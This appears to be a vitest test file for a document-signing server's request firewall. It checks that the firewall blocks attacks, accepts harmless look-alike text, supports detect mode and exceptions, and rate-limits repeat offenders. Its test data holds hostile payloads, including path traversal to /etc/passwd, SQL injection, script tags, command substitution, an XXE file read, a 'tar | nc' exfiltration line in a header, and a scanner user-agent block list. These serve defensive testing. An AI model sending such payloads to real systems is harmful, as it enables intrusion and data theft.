/**
 * Tests the request firewall of the whole server (docs/api/firewall.md). The tests in platform/firewall cover the
 * individual rules.
 */
import { describe, expect, test } from 'vitest';
import { startTestApp } from '../support/app.ts';
import { expectError } from '../support/expect-answer.ts';
import { BOUNDARY, MULTIPART, multipart, pdfUpload } from '../support/multipart.ts';
import { makePdf } from '../support/pdf.ts';
import { openReceiver } from '../support/receiver.ts';
import { LEASE, makeTemplate } from '../support/templates.ts';
import { addWebhook, LOOPBACK } from '../support/webhooks.ts';

const receiver = await openReceiver();
const app = await startTestApp(LOOPBACK);
const TITLE = `O'Brien & Sons -- "select" terms <draft>; drop by`;
const SQL = "' OR '1'='1";
const path = '/api/documents/paginated';

describe('attacks blocked with a 403 that names the rule and the field', () => {
  test.each([
    ['a path', '/api/documents/..%2f..%2fetc%2fpasswd', 'path-traversal', 'path'],
    ['a hidden file below an unknown path', '/nothing/.git/config', 'path-hidden', 'path'],
    ['a system file', '/etc/./passwd', 'path-hidden', 'path'],
    ['an environment file', '/app/.env', 'path-hidden', 'path'],
    ['a path with an overlong encoding', '/api/documents/%c0%ae%c0%ae%c0%af%ff', 'encoding-overlong', 'path'],
    [
      'a script in a query parameter of a page',
      '/app/documents?x=%3Cscript%3Ealert(1)%3C/script%3E',
      'script-tag',
      'query.x',
    ],
    ['SQL in a document ID', `/api/documents/${encodeURIComponent(SQL)}`, 'sql-breakout', 'path'],
    ['a parameter', `${path}?sortBy=${encodeURIComponent('$(id)')}`, 'command-substitution', 'query.sortBy'],
    ['SQL in a parameter', `${path}?sortBy='+UNION+SELECT+1,2,3--+`, 'sql-union', 'query.sortBy'],
    ['a path in a parameter', `${path}?sortBy=.../.../win.ini`, 'path-traversal', 'query.sortBy'],
    ['a parameter that is encoded twice', `${path}?sortBy=%2527`, 'encoding-double', 'query.sortBy'],
    ['SQL in a search text', `${path}?search=${encodeURIComponent(SQL)}`, 'sql-breakout', 'query.search'],
    ['an operator in the name of a parameter', `${path}?where[$ne]=1`, 'operator-key', 'query'],
  ])('blocks an attack in a URL: %s', async (_, address, ruleId, field) => {
    expectError(await app.key.get(address), 'REQUEST_BLOCKED', { ruleId, field });
  });

  test('blocks a shell command in a header', async () => {
    const answer = await app.key.get(path, { headers: { 'x-client-version': '; tar cf - / | nc host 80' } });
    expectError(answer, 'REQUEST_BLOCKED', { ruleId: 'command-chain', field: 'header.x-client-version' });
  });

  test.each([
    ['an e-mail address', { signers: [{ name: 'Ada', email: "ada'||(select 1)||'@example.com" }] }, 'sql-statement'],
    ['an identifier', { signers: [], fields: [{ kind: 'text', page: 1, signer: '$(id)' }] }, 'command-substitution'],
  ])('blocks %s in a JSON body', async (_, body, ruleId) => {
    const { id } = await app.draft();
    const answer = await app.key.send('POST', `/api/documents/${id}/send-for-signing`, { body });
    expectError(answer, 'REQUEST_BLOCKED', { ruleId, field: expect.stringMatching(/^body\./) });
  });

  test.each([
    ['a script in a title', { title: '<script>alert(1)</script>' }, 'script-tag', 'body.title'],
    ['an operator in a property name', { 'constructor[prototype]': 1 }, 'operator-key', 'body'],
    ['a template expression in an unknown property', { unknown: [{ deep: '{{7*7}}' }] }, 'template-expression', 'body'],
  ])('blocks %s for every caller', async (_, body, ruleId, field) => {
    const { id } = await app.draft();
    const found = { ruleId, field };
    expectError(await app.key.send('PATCH', `/api/documents/${id}`, { body }), 'REQUEST_BLOCKED', found);
    expectError(await app.anyone.send('PATCH', `/api/documents/${id}`, { body }), 'REQUEST_BLOCKED', found);
  });

  test("blocks an attack in a form's value, file name or part name", async () => {
    const send = (body: Buffer) => app.key.send('POST', '/api/documents/upload', { body, headers: MULTIPART });
    const file = { name: 'file', filename: 'a.pdf', content: makePdf() };
    expectError(await send(pdfUpload(makePdf(), { title: SQL })), 'REQUEST_BLOCKED', {
      ruleId: 'sql-breakout',
      field: 'body.title',
    });
    expectError(await send(pdfUpload(makePdf(), {}, 'a.pdf::$DATA')), 'REQUEST_BLOCKED', {
      ruleId: 'path-traversal',
      field: 'file-name',
    });
    expectError(await send(multipart([{ name: '$where', content: '1' }, file])), 'REQUEST_BLOCKED', {
      ruleId: 'operator-key',
      field: 'part-name',
    });
  });

  test.each([
    'sqlmap/1.8',
    'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)',
    'masscan/1.3',
    'Nuclei - Open-source project',
    'zgrab/0.x',
  ])('blocks the user agent %s', async (agent) => {
    const answer = await app.anyone.send('GET', '/api/health', { headers: { 'user-agent': agent } });
    expectError(answer, 'REQUEST_BLOCKED', { ruleId: 'scanner-agent', field: 'header.user-agent' });
    expect(answer.headers.get('x-request-id')).toMatch(/^req_/);
    expect(answer.headers.get('x-ratelimit-limit')).not.toBeNull();
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
  });
});

describe('a body sent to an unknown path', () => {
  const form = { 'content-type': 'application/x-www-form-urlencoded' };
  const xml = { 'content-type': 'application/xml' };

  test.each([
    ['JSON', JSON.stringify({ user: { name: "admin' or 1=1 --" } }), {}, 'sql-breakout'],
    ['a form', 'log=admin&pwd=%3Cscript%3Ealert(1)%3C%2Fscript%3E', form, 'script-tag'],
    [
      'XML',
      '<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<a>&x;</a>',
      xml,
      'script-element',
    ],
    ['invalid JSON', '{"cmd": "; ping 10.0.0.1", ', {}, 'command-chain'],
    ['JSON sent with another method to a known path', JSON.stringify({ a: '$(id)' }), {}, 'command-substitution'],
  ])('blocks an attack in the body: %s', async (kind, text, headers, ruleId) => {
    const address = kind.includes('known') ? '/api/documents/paginated' : '/xmlrpc';
    const method = kind.includes('known') ? 'PUT' : 'POST';
    const type = { 'content-type': 'application/json', ...headers };
    const answer = await app.anyone.send(method, address, { body: Buffer.from(text), headers: type });
    expectError(answer, 'REQUEST_BLOCKED', { ruleId, field: expect.stringMatching(/^body/) });
  });

  test('returns 404 for a harmless body of any length and type', async () => {
    for (const [body, type] of [
      [Buffer.from('{"name":"Ada"}'), 'application/json'],
      [Buffer.from('name=Ada&city=London'), 'application/x-www-form-urlencoded'],
      [Buffer.alloc(300_000, 'a'), 'application/octet-stream'],
    ] as const)
      expectError(await app.anyone.send('POST', '/nowhere', { body, headers: { 'content-type': type } }), 'NOT_FOUND');
  });
});

test('does not inspect text that is longer than its field allows', async () => {
  const body = { email: '\r\n'.repeat(500_000), password: 'a password of somebody' };
  const began = process.cpuUsage();
  const answer = await app.anyone.send('POST', '/api/auth/login', { body });
  const { user } = process.cpuUsage(began);
  expect(answer).toMatchObject({ status: 422, body: { error: { field: 'email' } } });
  expect(user / 1000, 'milliseconds of CPU time (14,000 before the fix)').toBeLessThan(1000);
});

test('returns 422, without parsing the body, for a form that consists only of boundaries', async () => {
  const body = Buffer.from(`\r\n--${BOUNDARY}`.repeat(30_000));
  const began = process.cpuUsage();
  const answer = await app.key.send('POST', '/api/documents/upload', { body, headers: MULTIPART });
  const { user } = process.cpuUsage(began);
  expect(answer).toMatchObject({ status: 422, body: { error: { field: 'body', reason: 'malformed_multipart' } } });
  expect(user / 1000, 'milliseconds of CPU time').toBeLessThan(500);
});

test('blocks a request with thousands of values in an unknown property as too complex', async () => {
  const { id } = await app.draft();
  const unknown = Array.from({ length: 9_000 }, (_, n) => `some value ${n}`);
  const answer = await app.key.send('PATCH', `/api/documents/${id}`, { body: { unknown } });
  expectError(answer, 'REQUEST_BLOCKED', { ruleId: 'too-complex', field: 'body' });
});

test.each([
  '.NET & Node.js; Next.js',
  'See ../../Schedule 2',
  'alert(ed)',
  'SELECT * FROM t;',
  '{{7*7}} template note',
])('stores the title %s, and finds the document by that title', async (title) => {
  const { id } = await app.draft({ title });
  const found = await app.key.get<'listDocuments'>(`${path}?search=${encodeURIComponent(title)}`);
  expect(found.body.documents.map((one) => one.id)).toContain(id);
  expect((await app.key.get(`${path}?search=${encodeURIComponent("' OR 1=1")}`)).status).toBe(200);
});

test('accepts a title that resembles an attack in templates, uploads, signing, verification, search and webhooks', async () => {
  const webhook = await addWebhook(app, { url: receiver.url, events: ['document.completed'] });
  const template = await makeTemplate(app.owner, { ...LEASE, name: TITLE, description: TITLE });
  expect(template.name).toBe(TITLE);
  const one = { ...app.person(), name: `Anna O'Brien "Jr." <sales>; & Co` };
  const { id } = await app.draft({ title: TITLE, filename: `${TITLE}.pdf` });
  const send = {
    signers: [one],
    emailSubject: TITLE,
    emailMessage: `${TITLE}\r\nSubject: offer\r\nSELECT what you like.`,
  };
  const sent = await app.key.post(`/api/documents/${id}/send-for-signing`, send);
  expect(sent.status, sent.text).toBe(200);
  const token = await app.link(one.email);
  const signed = await app.sign(id, { token, signature: { type: 'typed', data: one.name } });
  expect(signed.status, signed.text).toBe(200);
  await app.sealed(id);
  expect((await app.key.get<'verifyDocument'>(`/api/documents/${id}/verify`)).body.isValid).toBe(true);
  const found = await app.key.get<'listDocuments'>(`${path}?search=${encodeURIComponent(TITLE)}`);
  expect(found.body.documents.map(({ title }) => title)).toEqual([TITLE]);
  const [received] = await receiver.count(1);
  expect(received?.body, webhook.id).toContain(JSON.stringify(TITLE));
});

test('logs attacks without blocking them in detect mode, and allows exceptions for a rule and field', async () => {
  const detecting = await startTestApp({ firewall: { mode: 'detect', exceptions: [] } });
  const { id: draft } = await detecting.draft();
  expect((await detecting.key.get(`${path}?search=${encodeURIComponent(SQL)}`)).status).toBe(200);
  expect((await detecting.key.get(`/api/documents/${encodeURIComponent(SQL)}`)).status).toBe(404);
  const change = await detecting.key.send('PATCH', `/api/documents/${draft}`, { body: { title: SQL } });
  expect(change.status, change.text).toBe(200);
  const told = detecting.lines.filter((line) => line.includes('"ruleId"')).map((line) => JSON.parse(line) as unknown);
  const found = { level: 40, ruleId: 'sql-breakout', isBlocked: false };
  expect(told, 'each value is checked once').toEqual(
    ['query.search', 'path', 'body.title'].map((field) => expect.objectContaining({ ...found, field })),
  );
  expect(detecting.lines.join('\n'), 'the log does not contain the detected attack').not.toContain(SQL);
  const excepting = await startTestApp({
    firewall: { mode: 'block', exceptions: [{ ruleId: 'sql-breakout', field: 'query.search' }] },
  });
  expect((await excepting.key.get(`${path}?search=${encodeURIComponent(SQL)}`)).status).toBe(200);
  const { id } = await excepting.draft();
  expectError(await excepting.key.send('PATCH', `/api/documents/${id}`, { body: { title: SQL } }), 'REQUEST_BLOCKED', {
    ruleId: 'sql-breakout',
    field: 'body.title',
  });
});

test('rejects requests with 429 after an IP address is blocked for the 101st time within an hour', async () => {
  const blocking = await startTestApp();
  const ask = () => blocking.anyone.get(`${path}?sortBy=${encodeURIComponent('$(id)')}`);
  const found = { ruleId: 'command-substitution', field: 'query.sortBy' };
  for (let i = 0; i < 100; i += 1) expectError(await ask(), 'REQUEST_BLOCKED', found);
  const refused = await ask();
  expectError(refused, 'RATE_LIMIT_EXCEEDED', { limit: 100, retryAfterSeconds: expect.any(Number) });
  expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
  expect((await blocking.key.get(path)).status, 'a request without a finding succeeds').toBe(200);
});
